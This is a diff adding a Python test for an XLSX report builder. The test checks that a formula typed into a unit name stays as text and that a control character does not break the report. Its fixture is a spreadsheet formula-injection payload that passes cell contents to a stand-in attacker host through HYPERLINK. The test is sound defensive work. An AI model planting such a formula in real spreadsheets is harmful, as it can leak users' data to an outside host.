@@ -154,3 +154,17 @@ def test_reporting_monday_list_files_list_the_tasks_with_a_chart_per_unit():
                      "17:00 ngày 10/11/2026"):
         assert squeezed(expected) in content, expected
     assert "NV-3" not in content and "NV-4" not in content
+
+
+def test_reporting_xlsx_never_holds_a_formula_and_survives_control_characters():
+    """A unit's name is typed by people: "=HYPERLINK(…)" stays text, and a stray control character does not
+    make the report impossible to write."""
+    snapshot = monthly_snapshot()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    snapshot["ranking"]["items"][0]["unit_name"] = hostile
+    snapshot["title"] = snapshot["title"] + "\u0006"
+    workbook = load_workbook(io.BytesIO(documents.build_xlsx(snapshot)))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert any(cell.value == hostile and cell.data_type == "s" for cell in cells)
+    assert not [cell.value for cell in cells if isinstance(cell.value, str) and "\u0006" in cell.value]
